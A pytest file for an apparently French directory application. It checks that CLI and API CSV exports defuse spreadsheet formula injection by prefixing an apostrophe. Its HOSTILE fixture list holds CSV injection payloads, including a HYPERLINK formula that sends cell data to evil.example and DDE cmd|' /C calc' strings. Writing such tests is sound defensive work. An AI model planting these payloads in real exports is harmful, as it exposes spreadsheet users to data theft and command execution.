"""CSV for Excel never hands a formula to the spreadsheet: a cell that starts with « = + - @ »,
a tab or a carriage return is written after an apostrophe (OWASP's advice), in the export
files (CLI and API) and in the answers the CLI prints as CSV."""

from __future__ import annotations

import csv
import io
import warnings
import zipfile

import pytest

from reseau.app import create_app
from reseau.auth.tokens import create_token
from reseau.auth.users import add_user
from reseau.settings import Settings
from reseau.store.curation import create_record
from reseau.store.database import open_register
from tests.conftest import run_cli

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+33 1 42 00 00 00", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=2+2", "\r=3*3"]


@pytest.fixture
def database(tmp_path):
    url = f"sqlite:///{tmp_path / 'r.db'}"
    register = open_register(url)
    with register.transaction() as s:
        for n, name in enumerate(HOSTILE):
            create_record(s, "organization", {"name": name, "acronym": f"H{n}", "city": "=1+1"}, actor="test")
        create_record(s, "organization", {"name": "Ville de Laval", "acronym": "VDL", "city": "Laval"}, actor="test")
        add_user(s, "vera", "un-mot-de-passe-long", "viewer", actor="test")
        token = create_token(s, "vera", actor="test")
    register.close()
    return url, token


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_neutral(text: str) -> None:
    values = cells(text)
    assert "Ville de Laval" in values and "Laval" in values  # plain cells are left as they are
    for hostile in HOSTILE:
        assert hostile not in values and "'" + hostile in values
    assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in values)


def test_cli_export_and_answers_neutralise_formulas(database, tmp_path):
    url, _ = database
    env = {"RESEAU_DATABASE_URL": url}
    done = run_cli("export", str(tmp_path / "out"), "--format", "csv", env=env)
    assert done.returncode == 0, done.stderr.decode()
    assert_neutral((tmp_path / "out" / "organizations.csv").read_bytes().decode("utf-8"))
    listed = run_cli("search", "calc", "--format", "csv", env=env)
    assert listed.returncode == 0, listed.stderr.decode()
    values = cells(listed.stdout.decode())
    assert values and not any(v[:1] in ("=", "+", "-", "@") for v in values)
    profile = run_cli("org", "H0", "--format", "csv", env=env)
    assert "'" + HOSTILE[0] in cells(profile.stdout.decode())


def test_api_export_neutralises_formulas(database):
    url, token = database
    with TestClient(create_app(Settings(database_url=url, secret_key="cle"))) as client:
        answer = client.get("/api/export", params={"format": "csv"}, headers={"Authorization": f"Bearer {token}"})
    assert answer.status_code == 200
    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        assert_neutral(archive.read("organizations.csv").decode("utf-8-sig"))
